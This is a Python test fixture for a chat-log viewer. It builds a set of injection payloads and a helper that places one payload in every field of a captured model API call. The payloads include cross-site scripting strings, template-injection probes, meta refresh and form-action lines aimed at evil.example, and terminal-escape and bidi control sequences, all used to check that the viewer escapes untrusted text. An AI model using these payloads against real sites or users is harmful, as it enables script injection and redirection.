"""A corpus of texts that should never do anything, and records that carry one in every field."""

from __future__ import annotations

from typing import Any

from tests.viewer.captures import chat_call

MARK = "HOSTILE"
"""In every payload that can be read, so that a test can find it."""

PAYLOADS = {
    "script": f"<script>window.{MARK}=1</script>",
    "image": f"<img src=x onerror=\"window.{MARK}=1\">",
    "svg": f"<svg/onload=window.{MARK}=1><animate onbegin=window.{MARK}=1>",
    "breaking out of an attribute": f"\" autofocus onfocus=window.{MARK}=1 x=\" ' onmouseover='window.{MARK}=1",
    "closing the page": f"</pre></main></body></html><iframe srcdoc=\"<script>parent.{MARK}=1</script>\">",
    "comment": f"<!--{MARK}--><![CDATA[<script>window.{MARK}=1</script>]]>",
    "template": f"{{{{ {MARK}.__class__ }}}} {{% raw %}} {{{{ 7*7 }}}} ${{{MARK}}}",
    "javascript address": f"javascript:window.{MARK}=1//",
    "data address": f"data:text/html,<script>window.{MARK}=1</script>",
    "double escape": f"&lt;script&gt;window.{MARK}=1&lt;/script&gt; &#x3c;img src=x onerror=window.{MARK}=1&#x3e;",
    "style": f"<style>*{{display:none}}</style><link rel=stylesheet href=//evil.example/{MARK}.css>",
    "meta": f"<meta http-equiv=refresh content=\"0;url=//evil.example/{MARK}\"><base href=//evil.example/>",
    "form": f"<form action=//evil.example/{MARK}><input name=q autofocus><button>ok</button></form>",
    "bidi": f"{MARK} \u202egnp.exe\u202c \u2066\u2069 \u061c \u200e\u200f",
    "zero width": f"{MARK}\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041\U000e007f",
    "terminal": f"\x1b[2J\x1b]0;{MARK}\x07\x1b[31mred\x1b[0m\x9b31m\x08\x08\r\x00\x7f",
    "line separators": f"{MARK}\u2028\u2029\x85\x0b\x0c",
}  # fmt: skip


def hostile_record(rollout_id: str, number: int, payload: str) -> dict[str, Any]:
    """A call with `payload` wherever somebody else than the server can put text."""
    image = {"type": "image_url", "image_url": {"url": payload, "detail": payload}}
    call = {"id": payload, "type": "function", "function": {"name": payload, "arguments": payload}}
    messages: list[dict[str, Any]] = [
        {"role": "system", "content": payload},
        {"role": payload, "name": payload, "content": [{"type": "text", "text": payload}, image]},
        {"role": "user", "content": [{"type": payload, payload: payload}, payload]},
        {"role": "tool", "tool_call_id": payload, "content": payload},
    ]
    record = chat_call(rollout_id, number, messages * (number + 1), {"content": payload})
    record["request"]["model"] = payload
    record["request"]["stop"] = [payload]
    record["request"]["tools"] = [
        {"type": "function", "function": {"name": payload, "description": payload}}
    ]
    response = record["response"]
    response["model"] = payload
    response["id"] = payload
    response["choices"][0]["finish_reason"] = payload
    response["choices"][0]["message"] = {
        "role": "assistant",
        "content": payload,
        "reasoning_content": payload,
        "refusal": payload,
        "tool_calls": [call],
    }
    record["response_raw"] = f"data: {payload}\n\n"
    if number:
        record.update(error_category=payload, status_code=500)
    record["dialect"] = payload if number else "chat"
    record["model_ref"] = {"type": payload, "name": payload}
    record["engine"] = {"provider": payload, "address": payload, "port": 1}
    record["client"] = {"agent_id": payload, "headers": {payload: payload}}
    record["client_session_id"] = payload
    record["sampling"] = {
        "requested": {payload: payload},
        "pinned": [payload],
        "effective": {payload: payload},
    }
    record["resend"] = {"count": 1, "of": payload, "reason": payload}
    record["exception"] = {"type": payload, "message": payload}
    record["stream"] = {"chunks": payload, "terminal": payload}
    record[payload] = payload
    return record
